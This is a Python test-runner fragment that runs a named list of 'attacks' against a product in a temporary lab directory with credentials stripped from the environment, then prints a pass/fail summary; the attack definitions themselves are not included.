def run_attacks(selected: list[Attack], scratch: Path) -> list[tuple[Attack, str | None]]:
    """Run each attack; returns (attack, failure reason or None)."""
    lab = Lab(scratch)
    results: list[tuple[Attack, str | None]] = []
    for item in selected:
        try:
            item.run(lab)
            results.append((item, None))
        except Failed as exc:
            results.append((item, str(exc)))
        except Exception as exc:  # the harness or the product raised: also a failure
            results.append((item, f"raised {type(exc).__name__}: {str(exc)[:200]}"))
    return results


@contextlib.contextmanager
def quiet_environment() -> Iterator[None]:
    """No real keys, no embeddings (these attacks are about files and text), fast retries."""
    keep = dict(os.environ)
    for name in list(os.environ):
        if name.startswith("HAYTHAM_") or name.endswith(("_API_KEY", "_TOKEN")):
            del os.environ[name]
    os.environ.update(
        {
            "HAYTHAM_EMBEDDINGS": "off",
            "HAYTHAM_INTAKE": "off",  # the cassette has no intake turn
            "HAYTHAM_RETRY_DELAY": "0",
            "HAYTHAM_MAX_RETRIES": "0",
        }
    )
    try:
        yield
    finally:
        os.environ.clear()
        os.environ.update(keep)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("-k", default="", help="run only attacks whose name contains this")
    parser.add_argument("--list", action="store_true")
    args = parser.parse_args(argv)
    selected = [a for a in ATTACKS if args.k.lower() in f"{a.kind} {a.name}".lower()]
    if args.list:
        for item in selected:
            print(f"{item.kind:<13} {item.name}")
        return 0
    with tempfile.TemporaryDirectory(prefix="haytham-attacks-") as scratch, quiet_environment():
        os.chdir(scratch)  # no .env of the checkout
        results = run_attacks(selected, Path(scratch))
        os.chdir(ROOT)
    for item, failure in results:
        mark = "pass" if failure is None else "FAIL"
        print(f"{mark}  {item.kind:<13} {item.name}" + (f"\n      {failure}" if failure else ""))
    passed = sum(f is None for _, f in results)
    print(f"passed {passed}/{len(results)}")
    return 0 if passed == len(results) else 1


if __name__ == "__main__":
    sys.exit(main())
